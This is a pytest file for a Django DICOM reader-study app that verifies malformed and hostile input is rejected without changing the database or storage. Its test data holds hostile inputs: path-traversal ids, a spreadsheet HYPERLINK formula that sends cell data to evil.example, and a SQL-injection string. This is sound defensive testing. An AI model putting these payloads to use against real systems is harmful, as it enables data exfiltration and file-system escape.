"""Bad input of every kind: a clear error, the database unchanged (row counts), nothing written outside storage.

Manifest encoding, separators, columns, path traversal via '..' and bad ratings are covered in
tests/studies/test_manifest.py and tests/reading; this file adds broken DICOM, symlinks, and oversized bodies.
"""

import json
from pathlib import Path, PurePosixPath

import pydicom
import pytest
from django.core.files.storage import default_storage
from django.test import Client

from readerstudy.core.errors import InvalidInput
from readerstudy.core.models import AuditEvent
from readerstudy.reading import actions as reading_actions
from readerstudy.reading.models import Read, ReadingSession
from readerstudy.studies import actions
from readerstudy.studies.models import Case, ImageSeries, Patient, Truth
from tests.factories import balanced_rows, build_study, make_user, manifest_row, write_manifest, write_series

pytestmark = pytest.mark.django_db


def counts() -> tuple[int, ...]:
    return tuple(m.objects.count() for m in (Patient, ImageSeries, Case, Truth, Read, AuditEvent))


@pytest.fixture
def admin():
    return make_user("admin", superuser=True)


@pytest.fixture
def study(admin):
    return actions.create_study(admin, "Bad input", seed=1)


def refused(admin, study, manifest: Path, media_root: Path, outside: Path | None = None) -> list[str]:
    before = counts()
    files_before = set((outside or manifest.parent).rglob("*"))
    with pytest.raises(InvalidInput) as caught:
        actions.import_cases(admin, study, manifest)
    assert counts() == before
    assert not list(Path(media_root).rglob("*.dcm"))  # nothing copied into storage either
    assert set((outside or manifest.parent).rglob("*")) == files_before  # and nothing written beside the input
    return caught.value.details


def test_truncated_dicom(tmp_path, admin, study, media_root):
    rows = balanced_rows(1, 1)
    path = write_manifest(tmp_path, rows)
    victim = sorted((tmp_path / "series" / "P001").glob("*.dcm"))[2]
    victim.write_bytes(victim.read_bytes()[:300])
    details = refused(admin, study, path, media_root)
    assert any("row 2 column series_path" in d and victim.name in d for d in details), details


def test_mixed_series_in_one_folder(tmp_path, admin, study, media_root):
    write_series(tmp_path / "series" / "P001", n_slices=3, z0=100.0)
    other = tmp_path / "tmp-other"  # a second series, moved into the same folder
    write_series(other, n_slices=2, z0=50.0)
    for i, f in enumerate(sorted(other.glob("*.dcm"))):
        f.rename(tmp_path / "series" / "P001" / f"other-{i}.dcm")
    other.rmdir()
    path = write_manifest(tmp_path, [manifest_row("P001", "P001-L1", lesion_z_mm=100.0)])
    details = refused(admin, study, path, media_root)
    assert any("mixes 2 series" in d for d in details), details


def test_absurd_dimensions(tmp_path, admin, study, media_root):
    folder = tmp_path / "series" / "P001"
    write_series(folder)
    for f in folder.glob("*.dcm"):
        ds = pydicom.dcmread(f)
        ds.Rows = 60000
        ds.save_as(f)
    details = refused(admin, study, write_manifest(tmp_path, balanced_rows(1, 1)), media_root)
    assert any("image size 60000x8 outside 1..4096" in d for d in details), details


def test_symlink_escaping_the_manifest_folder(tmp_path, admin, study, media_root):
    secret = tmp_path / "elsewhere" / "scan"
    write_series(secret)
    root = tmp_path / "import"
    (root / "series").mkdir(parents=True)
    (root / "series" / "P001").symlink_to(secret, target_is_directory=True)
    path = write_manifest(root, [manifest_row("P001", "P001-L1")])
    details = refused(admin, study, path, media_root, outside=tmp_path)
    assert any("must be a relative path inside" in d for d in details), details


def test_absolute_series_path(tmp_path, admin, study, media_root):
    write_series(tmp_path / "abs")
    path = write_manifest(tmp_path / "m", [manifest_row("P001", "P001-L1", series=str(tmp_path / "abs"))])
    details = refused(admin, study, path, media_root)
    assert any("must be a relative path inside" in d for d in details), details


def test_non_dicom_file_named_dcm_and_wrong_modality(tmp_path, admin, study, media_root):
    write_series(tmp_path / "series" / "P001")
    (tmp_path / "series" / "P001" / "notes.dcm").write_text("this is not DICOM")
    write_series(tmp_path / "series" / "P002", modality="MR")
    path = write_manifest(tmp_path, [manifest_row("P001", "P001-L1"), manifest_row("P002", "P002-L1")])
    details = refused(admin, study, path, media_root)
    assert any("notes.dcm" in d and "not a readable DICOM file" in d for d in details)
    assert any("row 3" in d and "expected CT only" in d for d in details)


@pytest.fixture
def reading(tmp_path):
    study = build_study(tmp_path, readers=1, n_patients=2, lesions_per_patient=1, name="Reading")
    reader = make_user("reader1")
    session = reading_actions.start_session(reader, ReadingSession.objects.get(study=study, reader=reader, index=1))
    client = Client()
    client.force_login(reader)
    return client, session.items.order_by("position").first()


def test_oversized_request_body_is_refused(reading):
    client, item = reading
    before = counts()
    huge = {"rating": 50, "idempotency_key": "k", "active_seconds": 1, "viewer_state": {"x": "a" * 2_000_000}}
    response = client.post(f"/api/items/{item.pk}/read/", json.dumps(huge), content_type="application/json")
    assert response.status_code in (400, 413)
    assert counts() == before


@pytest.mark.parametrize(
    "body",
    [
        b"{not json",
        b"[]",
        b'{"rating": "50; DROP TABLE"}',
        b'{"rating": 1e400, "idempotency_key": "k", "active_seconds": 1}',
        b'{"rating": 50, "idempotency_key": "' + b"k" * 200 + b'", "active_seconds": 1}',
    ],
)
def test_malformed_read_bodies_are_400(reading, body):
    client, item = reading
    before = counts()
    response = client.post(f"/api/items/{item.pk}/read/", body, content_type="application/json")
    assert response.status_code == 400, response.content
    assert response.json()["detail"]
    assert counts() == before


# --- hostile ids: refused at the manifest, and storage never named by them ---------------------------------------

HOSTILE_IDS = [
    "../x",
    "../../../../evil",
    "/abs",
    "a/b",
    "a\\b",
    "..",
    ".hidden",
    "a..b",
    "a\x00b",
    "a\x1fb",
    "a\tb",
    "a b",
    "P001\u202e",  # right-to-left override: shows as something else
    "P00\u0661",  # an Arabic-Indic digit: not ASCII
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "@x",
    "-x",
    "P" * 65,
    "P" * 100_000,
]


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("column", ["patient_id", "case_id"])
@pytest.mark.parametrize("hostile", HOSTILE_IDS, ids=lambda v: ascii(v)[:30])
def test_hostile_id_is_a_row_error_and_writes_nothing(tmp_path, admin, study, media_root, column, hostile):
    folder = tmp_path / "import"
    ids = {"patient_id": "P001", "case_id": "P001-L1", column: hostile}
    path = write_manifest(folder, [manifest_row(ids["patient_id"], ids["case_id"], series="series/P001")])
    outside_before = tree(tmp_path)
    before = counts()
    with pytest.raises(InvalidInput) as caught:
        actions.import_cases(admin, study, path)
    details = caught.value.details
    assert any(
        d.startswith(f"manifest.csv row 2 column {column}: ") and "expected a pseudonymous id: 1 to 64 characters" in d
        for d in details
    ), details
    assert all(len(d) < 400 for d in details)  # a 100 000-character id is shown cut short
    assert counts() == before  # nothing applied, no audit event
    assert list(Path(media_root).rglob("*")) == []  # nothing written into storage, not even an empty folder
    assert tree(tmp_path) == outside_before  # nor beside the manifest or anywhere up the tree
    assert not (tmp_path / "evil").exists() and not Path("/abs").exists()


@pytest.mark.parametrize("hostile", ["+1", "@x", "-x", "=1+1"])
def test_formula_prefix_is_refused_only_at_the_start(tmp_path, admin, study, hostile):
    path = write_manifest(tmp_path, [manifest_row("P001", f"P001{hostile}", series="series/P001")])
    if hostile.startswith("-"):  # '-' inside an id (P001-L1) is fine; only a leading one is a formula
        assert actions.import_cases(admin, study, path).n_cases == 1
    else:
        with pytest.raises(InvalidInput, match=r"row 2 column case_id: .* contains '[+@=]'"):
            actions.import_cases(admin, study, path)


def test_storage_folders_are_generated_keys_even_for_an_unchecked_id(tmp_path, admin, study, media_root):
    """Defence in depth: were a hostile patient id to reach the ingest step, it is only DICOM PatientID text."""
    from readerstudy.studies.ingest import ingest_series
    from readerstudy.studies.manifest import Manifest, ManifestRow, read_manifest

    checked = read_manifest(write_manifest(tmp_path, [manifest_row("P001", "P001-L1")]))
    assert not checked.errors
    row = checked.rows[0]
    hostile = ManifestRow(**{**row.__dict__, "patient_id": "../../../../escaped"})
    manifest = Manifest(path=checked.path, rows=[hostile], series=checked.series, slice_index=checked.slice_index)
    ingest = ingest_series(study, manifest)
    try:
        assert not ingest.errors
        folder = Path(media_root) / ingest.prefix  # the default FileSystemStorage keeps names under MEDIA_ROOT
        written = [p for p in Path(media_root).rglob("*") if p.is_file()]
        assert written and all(folder in p.parents for p in written)
        assert [p.relative_to(folder).as_posix() for p in sorted(written)] == [
            f"series-1/{n:04d}.dcm" for n in range(1, 6)
        ]
        assert not (Path(media_root).parent / "escaped").exists()
    finally:
        ingest.remove()
    assert list(Path(media_root).rglob("*")) == []  # remove() also takes the parents it created


def test_an_import_cannot_touch_another_studys_files(tmp_path, admin, media_root):
    victim = build_study(tmp_path / "victim", readers=1, n_patients=2, lesions_per_patient=1, name="Victim")
    storage = Path(media_root) / "studies" / str(victim.pk)
    files_before = tree(storage)
    events_before = AuditEvent.objects.filter(study=victim).count()
    (import_folder,) = [p.name for p in storage.iterdir()]
    attacker = actions.create_study(admin, "Attacker", seed=2)
    # What used to land in the victim's folder: <import>/<patient_id>/series-<n> with a climbing patient id.
    climbing = f"../../{victim.pk}/{import_folder}/P001"
    rows = [manifest_row(climbing, "X-L1", series="series/X"), manifest_row("P001", "P001-L1")]
    with pytest.raises(InvalidInput, match=r"row 2 column patient_id: .* contains a path separator"):
        actions.import_cases(admin, attacker, write_manifest(tmp_path / "attack", rows))
    # and a good import of the same patient ids into the other study gets folders of its own
    actions.import_cases(admin, attacker, write_manifest(tmp_path / "good", balanced_rows(2, 1)))
    assert tree(storage) == files_before
    assert AuditEvent.objects.filter(study=victim).count() == events_before
    assert ImageSeries.objects.filter(patient__study=victim).count() == 2
    attacker_prefixes = ImageSeries.objects.filter(patient__study=attacker).values_list("storage_prefix", flat=True)
    assert all(PurePosixPath(p).parent.parent == PurePosixPath(f"studies/{attacker.pk}") for p in attacker_prefixes)


# --- all or nothing: every failure removes what the import wrote ----------------------------------------------


def assert_nothing_stored(media_root: Path, before: tuple[int, ...]) -> None:
    assert counts() == before
    assert list(Path(media_root).rglob("*")) == [], list(Path(media_root).rglob("*"))


def test_exception_midway_through_deidentification_removes_everything(tmp_path, admin, study, media_root, monkeypatch):
    import imaging.deid as deid

    real = deid.deidentify_series
    calls = []

    def fails_on_second(src, dst, **kwargs):
        calls.append(dst)
        if len(calls) == 2:
            Path(dst).mkdir()
            (Path(dst) / "0001.dcm").write_bytes(b"half written")
            raise RuntimeError("disk controller on fire")
        return real(src, dst, **kwargs)

    monkeypatch.setattr(deid, "deidentify_series", fails_on_second)
    before = counts()
    with pytest.raises(RuntimeError, match="on fire"):
        actions.import_cases(admin, study, write_manifest(tmp_path, balanced_rows(3, 1)))
    assert len(calls) == 2
    assert_nothing_stored(media_root, before)


def test_disk_full_midway_is_a_row_error_and_removes_everything(tmp_path, admin, study, media_root, monkeypatch):
    import errno

    import pydicom.dataset

    real = pydicom.dataset.Dataset.save_as
    saved = []

    def disk_full_after_seven(self, filename, *args, **kwargs):
        saved.append(filename)
        if len(saved) > 7:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, filename, *args, **kwargs)

    path = write_manifest(tmp_path, balanced_rows(3, 1))
    monkeypatch.setattr(pydicom.dataset.Dataset, "save_as", disk_full_after_seven)
    before = counts()
    with pytest.raises(InvalidInput) as caught:
        actions.import_cases(admin, study, path)
    details = caught.value.details
    assert any("row 3 column series_path: cannot de-identify" in d and "No space left" in d for d in details), details
    assert_nothing_stored(media_root, before)


@pytest.mark.parametrize("failure", ["integrity", "audit"])
def test_database_failure_while_applying_removes_the_files(tmp_path, admin, study, media_root, monkeypatch, failure):
    from django.db import IntegrityError

    from readerstudy.core import audit
    from readerstudy.core.errors import Conflict

    real_ingest = actions.ingest_series
    stored = []

    def ingest_then_race(study_, manifest, *args):
        ingest = real_ingest(study_, manifest, *args)
        stored.append(ingest.prefix)
        if failure == "integrity":  # a concurrent import commits the same case id first
            patient = Patient.objects.create(study=study_, pseudonym="RACER")
            series = ImageSeries.objects.create(
                patient=patient, storage_prefix="nowhere", n_slices=1, rows=1, columns=1, slice_positions_mm=[0],
                slice_files=["x"],
            )  # fmt: skip
            Case.objects.create(
                study=study_, patient=patient, series=series, case_id="P002-L1", lesion_x_mm=0, lesion_y_mm=0,
                lesion_z_mm=0, slice_index=0, diameter_mm=5,
            )  # fmt: skip
        return ingest

    def audit_fails(*args, **kwargs):
        raise IntegrityError("audit table said no") if failure == "integrity" else RuntimeError("audit store down")

    monkeypatch.setattr(actions, "ingest_series", ingest_then_race)
    if failure == "audit":
        monkeypatch.setattr(audit, "record", audit_fails)
    before = counts()
    expected = Conflict if failure == "integrity" else RuntimeError
    with pytest.raises(expected) as caught:
        actions.import_cases(admin, study, write_manifest(tmp_path, balanced_rows(3, 1)))
    if failure == "integrity":
        assert "not imported" in str(caught.value) and "Nothing was imported" in str(caught.value)
        assert Case.objects.filter(study=study).values_list("case_id", flat=True).get() == "P002-L1"  # the racer's
        assert not AuditEvent.objects.filter(verb="import_cases").exists()
    else:
        assert counts() == before
    assert stored and not default_storage.exists(stored[0])
    assert not [p for p in Path(media_root).rglob("*") if p.is_file()]
